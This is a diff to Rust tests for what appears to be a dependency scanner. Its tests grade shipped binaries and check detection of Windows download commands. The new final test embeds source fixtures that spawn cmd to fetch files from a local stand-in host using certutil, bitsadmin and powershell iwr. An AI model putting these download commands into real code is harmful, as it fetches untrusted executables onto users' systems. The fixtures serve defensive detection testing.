@@ -461,7 +461,7 @@ fn test_code_lowers_levels_but_src_does_not() {
 }
 
 #[test]
-fn windows_import_library_is_info_but_a_static_library_of_code_is_warn() {
+fn import_libraries_and_prebuilt_object_code_are_info_and_programs_warn() {
     let member = |name: &str, body: &[u8]| {
         let mut h = format!(
             "{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n",
@@ -492,15 +492,39 @@ fn windows_import_library_is_info_but_a_static_library_of_code_is_warn() {
     obj.extend(4096u32.to_le_bytes());
     obj.resize(60, 0);
     code.extend(member("evil.o/", &obj));
+    // An ELF header: class 64, little-endian, e_type at offset 16.
+    let elf = |e_type: u16| {
+        let mut h = b"\x7fELF\x02\x01\x01".to_vec();
+        h.resize(16, 0);
+        h.extend(e_type.to_le_bytes());
+        h.resize(64, 0);
+        h
+    };
     let inv = scan(&[
         ("src/lib.rs", b""),
         ("lib/k32.lib", &import),
         ("lib/libevil.a", &code),
+        ("pregenerated/x86_64-aes.obj", &obj),
+        ("pregenerated/aes-elf.o", &elf(1)),
+        ("bin/helper", &elf(2)),
+        ("bin/libhelper.so", &elf(3)),
     ]);
     let bins = signals(&inv, SignalCode::ShippedBinary, Level::Info);
-    let level = |p: &str| bins.iter().find(|s| s.path == p).map(|s| s.level);
-    assert_eq!(level("lib/k32.lib"), Some(Level::Info), "{bins:#?}");
-    assert_eq!(level("lib/libevil.a"), Some(Level::Warn), "{bins:#?}");
+    let found = |p: &str| bins.iter().find(|s| s.path == p).expect(p);
+    assert_eq!(found("lib/k32.lib").level, Level::Info, "{bins:#?}");
+    assert!(found("lib/k32.lib").reason.contains("no code"));
+    for object in [
+        "lib/libevil.a",
+        "pregenerated/x86_64-aes.obj",
+        "pregenerated/aes-elf.o",
+    ] {
+        let s = found(object);
+        assert_eq!(s.level, Level::Info, "{object}: {bins:#?}");
+        assert!(s.reason.contains("prebuilt object code"), "{s:?}");
+    }
+    for program in ["bin/helper", "bin/libhelper.so"] {
+        assert_eq!(found(program).level, Level::Warn, "{program}: {bins:#?}");
+    }
 }
 
 #[test]
@@ -562,4 +586,23 @@ pub fn read() -> String {
         "{fs:?}"
     );
     assert!(fs.contains(&"data.txt".to_owned()), "{fs:?}");
+}
+
+#[test]
+fn a_windows_shell_command_line_that_downloads_is_seen_in_every_form() {
+    let forms: [&[u8]; 4] = [
+        br#"#[cfg(windows)]
+pub fn f() { let _ = std::process::Command::new("cmd").args(["/C", "certutil -urlcache -split -f http://127.0.0.1:9/x.exe x.exe"]).spawn(); }"#,
+        br#"#[cfg(windows)]
+pub fn f() { let _ = std::process::Command::new("cmd").arg("/C").arg("certutil.exe -urlcache -f http://127.0.0.1:9/x x").status(); }"#,
+        br#"#[cfg(windows)]
+pub fn f() { let cmd = ["/C", "bitsadmin /transfer j http://127.0.0.1:9/x C:\\x"]; let _ = std::process::Command::new("cmd.exe").args(&cmd).output(); }"#,
+        br#"#[cfg(windows)]
+pub fn f() { let script = format!("{} {}", "powershell -c", "iwr http://127.0.0.1:9/x"); let _ = std::process::Command::new("cmd").args(["/C", &script]).spawn(); }"#,
+    ];
+    for (i, src) in forms.iter().enumerate() {
+        let inv = scan(&[("src/lib.rs", src)]);
+        let found = signals(&inv, SignalCode::ShellDownload, Level::Warn);
+        assert!(!found.is_empty(), "form {i}: {:#?}", inv.signals);
+    }
 }
